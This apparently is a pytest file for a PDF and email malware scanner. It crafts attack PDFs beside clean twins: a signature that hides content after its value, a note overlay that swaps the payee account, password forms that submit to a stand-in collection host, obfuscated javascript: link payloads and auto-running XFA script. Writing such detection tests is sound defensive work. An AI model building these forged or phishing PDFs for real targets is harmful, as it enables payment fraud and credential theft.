"""PDFs that were forged or lead away by what no script does: each attack beside its honest twin."""

from __future__ import annotations

from email.message import EmailMessage

import pytest

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine

ENGINE = Engine()
ALARMS = (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS)
BILL = b"BT /F1 12 Tf 60 700 Td (Pay to: CH31 8123 9000 0012 4568 9) Tj ET"
PHOTO = b"/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8"


def stream(keys: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (keys, len(data), data)


def document(content: bytes, *more: bytes, page: bytes = b"", catalog: bytes = b"") -> bytes:
    """Return a PDF of one page that shows `content`; `more` are objects from 5 on."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R" + page + b">>",
        stream(b"", content),
        *more,
    )
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\n" % (size, table, size)
    return out + head + b"startxref\n%d\n%%%%EOF\n" % len(out)


def signed(*, hidden: bytes = b"") -> bytes:
    """Return a signed PDF whose signature leaves out its own value, and `hidden` behind that."""
    value = b"<" + b"30" * 60 + b">" + hidden
    made = document(BILL, b"<</FT/Sig/V 6 0 R>>", b"<</Type/Sig/ByteRange[0 AAAA BBBB CCCC]/Contents" + value + b">>")
    begin = made.index(value)
    end = begin + len(value)
    for name, number in ((b"AAAA", begin), (b"BBBB", end), (b"CCCC", len(made) - end)):
        made = made.replace(name, b"%04d" % number)
    return made


def note(text: bytes) -> bytes:
    shown = stream(b"/Type/XObject/Subtype/Form/BBox[0 0 300 16]", b"1 1 1 rg 0 0 300 16 re f BT (" + text + b") Tj ET")
    return document(BILL, b"<</Subtype/FreeText/Rect[58 690 358 712]/AP<</N 6 0 R>>>>", shown, page=b"/Annots[5 0 R]")


def form(target: bytes, flags: bytes) -> bytes:
    return document(
        b"BT (Sign in) Tj ET",
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(word)/Ff " + flags + b"/Rect[0 0 90 20]>>",
        b"<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/A<</S/SubmitForm/F<</FS/URL/F(" + target + b")>>>>>>",
        page=b"/Annots[5 0 R 6 0 R]",
        catalog=b"/AcroForm<</Fields[5 0 R 6 0 R]>>",
    )


def link(target: bytes) -> bytes:
    return document(b"BT (Read) Tj ET", b"<</Subtype/Link/A<</S/URI/URI(" + target + b")>>>>", page=b"/Annots[5 0 R]")


def xfa(activity: bytes) -> bytes:
    calls = b'<script contentType="application/x-javascript">xfa.host.gotoURL("http://a.example/p");</script>'
    event = b'<event activity="' + activity + b'">' + calls + b"</event>"
    template = (
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform>' + event + b"</subform></template>"
    )
    return document(BILL, stream(b"", b"<xdp:xdp>" + template + b"</xdp:xdp>"), catalog=b"/AcroForm<</XFA 5 0 R>>")


@pytest.mark.parametrize(
    ("rule", "attack", "twin"),
    [
        ("pdf.doubt.signature", signed(hidden=b"\n7 0 obj\n<</Type/Page>>\nendobj\n"), signed()),
        ("pdf.doubt.signature", signed(hidden=b"/Contents 9"), signed(hidden=b"\0\0\0")),
        (
            "pdf.note.account",
            note(b"Pay to: LT12 1000 0111 0100 1000 new"),
            note(b"Pay to: CH31 8123 9000 0012 4568 9"),
        ),
        ("pdf.note.account", note(b"LT121000011101001000"), note(b"Checked, June 12. CH 31")),
        (
            "pdf.submits.password",
            form(b"https://records-entry.example/s", b"8192"),
            form(b"https://records.example", b"0"),
        ),
        (
            "pdf.submits.doubtful",
            form(b"http://192.0.2.88/collect", b"8192"),
            form(b"https://menu.example/order", b"0"),
        ),
        ("pdf.lure.starts", link(b"java\\tscript:alert\\(1\\)"), link(b"https://a.example/t")),
        ("pdf.lure.starts", link(b"vb\nscript:a"), link(b"mailto:a@a.example?subject=x:\\ty")),
        ("pdf.calls.auto", xfa(b"initialize"), xfa(b"click")),
    ],
)
def test_what_is_forged_is_told_from_its_twin(rule: str, attack: bytes, twin: bytes) -> None:
    found = ENGINE.judge(attack, "a.pdf")
    assert rule in {one.rule for one in found.findings}
    assert found.verdict in ALARMS
    other = ENGINE.judge(twin, "a.pdf")
    assert rule not in {one.rule for one in other.findings}
    assert other.verdict is Verdicts.CLEAN


@pytest.mark.parametrize(
    ("base", "address", "verdict"),
    [
        (b"http://198.51.100.7/lab/", b"login.php?k=7", Verdicts.SUSPICIOUS),
        (b"http://198.51.100.7/lab/", b"#page=2", Verdicts.SUSPICIOUS),
        (b"http://198.51.100.7/lab/", b"https://www.dhl.com/login", Verdicts.CLEAN),
        (b"https://www.dhl.com/", b"login.php?k=7", Verdicts.CLEAN),
        (b"http://[", b"login.php?k=7", Verdicts.CLEAN),
    ],
)
def test_the_rest_of_an_address_begins_where_the_document_says(base: bytes, address: bytes, verdict: Verdicts) -> None:
    words = b"BT 60 700 Td (New results. Please log in with your hospital password.) Tj 0 -20 Td (Log in) Tj ET"
    led = b"<</Subtype/Link/Rect[58 676 140 692]/A<</S/URI/URI(" + address + b")>>>>"
    raw = document(words, led, page=b"/Annots[5 0 R]", catalog=b"/URI<</Base(" + base + b")>>")
    assert ENGINE.judge(raw, "a.pdf").verdict is verdict


@pytest.mark.parametrize(
    ("base", "told"), [(b"https://notes-view.example/", True), (b"https://www.example.com/", False)]
)
def test_a_button_to_a_name_reserved_for_examples_is_none(base: bytes, *, told: bool) -> None:
    led = b"<</Subtype/Link/Rect[0 0 612 792]/A<</S/URI/URI(./view.txt)>>>>"
    raw = document(b"BT (View) Tj ET", led, page=b"/Annots[5 0 R]", catalog=b"/URI<</Base(" + base + b")>>")
    assert ("pdf.lure.button" in {one.rule for one in ENGINE.judge(raw, "a.pdf").findings}) is told


def mailed(paper: bytes) -> set[str]:
    """Return the rules of a mail with `paper`."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@clinic.example", "b@hopital.example", "Flyer"
    mail.set_content("Please see the file.")
    mail.add_attachment(paper, maintype="application", subtype="pdf", filename="a.pdf")
    return {one.rule for one in ENGINE.judge(mail.as_bytes(), "a.eml").findings}


def test_a_picture_with_a_button_weighs_beside_its_mail() -> None:
    def flyer(target: bytes, content: bytes) -> bytes:
        led = b"<</Subtype/Link/Rect[200 300 400 340]/A<</S/URI/URI(" + target + b")>>>>"
        return document(content, led, stream(PHOTO, b"\0"), page=b"/Annots[5 0 R]")

    drawn = b"q 612 0 0 792 0 0 cm /I Do Q"
    lure = flyer(b"https://payslips-login.example/", drawn)
    assert "pdf.lure.picture" in mailed(lure)
    assert not ENGINE.judge(lure, "a.pdf").findings
    for honest in (flyer(b"https://www.dhl.com/", drawn), flyer(b"https://congress.example/", drawn + BILL)):
        assert "pdf.lure.picture" not in mailed(honest)
